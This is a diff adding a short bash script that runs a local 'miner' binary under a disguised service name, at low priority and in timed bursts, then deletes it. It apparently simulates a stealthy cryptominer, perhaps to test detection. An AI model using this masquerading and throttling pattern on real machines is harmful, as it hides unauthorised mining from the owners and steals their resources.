@@ -1,0 +1,11 @@
+#!/bin/bash
+# SPDX-License-Identifier: GPL-2.0
+# A miner that hides: under a service's name, a second at a time, with rests.
+#
+#	spells.sh NAME PORT SPELLS
+cp "$(dirname "$0")/miner" "/tmp/$1"
+for _ in $(seq "$3"); do
+	nice "/tmp/$1" "$2" 1
+	sleep 1.5
+done
+rm "/tmp/$1"
